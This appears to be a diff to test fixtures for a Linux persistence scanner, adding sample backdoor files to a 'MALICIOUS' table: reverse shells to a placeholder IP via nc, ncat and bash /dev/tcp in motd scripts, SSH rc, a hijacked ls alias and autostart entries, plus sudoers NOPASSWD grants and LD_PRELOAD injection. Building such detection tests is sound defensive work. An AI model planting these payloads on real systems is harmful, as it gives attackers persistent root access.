@@ -48,8 +48,16 @@ MALICIOUS: dict[str, str] = {
         f'[Desktop Entry]\nType=Application\nExec=sh -c "ncat {IP} 4444 -e /bin/sh"\n'
     ),
     "etc/xdg/autostart/x.desktop": f"[Desktop Entry]\nExec=bash -c 'bash -i >& /dev/tcp/{IP}/4444 0>&1'\n",
+    # run as root on an event (an SSH login's motd, an interface up), by sshd at a login, by .bashrc
+    "etc/update-motd.d/99-x": f"#!/bin/sh\nnc -e /bin/sh {IP} 1 &\n",
+    "etc/NetworkManager/dispatcher.d/50-x": "#!/bin/sh\nsh /dev/shm/.n\n",
+    "root/.ssh/rc": f"bash -i >& /dev/tcp/{IP}/1 0>&1 &\n",
+    "root/.bash_aliases": f"alias ls='ls; sh -i >& /dev/tcp/{IP}/1 0>&1 &'\n",
+    # a sudoers file outside /etc/sudoers.d, reached through an include
+    "opt/sd/x": "ALL ALL=(ALL) NOPASSWD: /dev/shm/x\n",
 }
 MEDIUM: dict[str, str] = {
+    "etc/sudoers": "Defaults env_reset\n@includedir /opt/sd\n",
     "etc/systemd/system/pre2.service.d/env.conf": '[Service]\nEnvironment="LD_PRELOAD=/opt/l/x.so" LANG=C\n',
     # the continuation was not read (no pattern on it): never silently clean
     "etc/systemd/system/py.service": "[Service]\nExecStart=/usr/bin/python3 -c \\\n  'import os'\n",
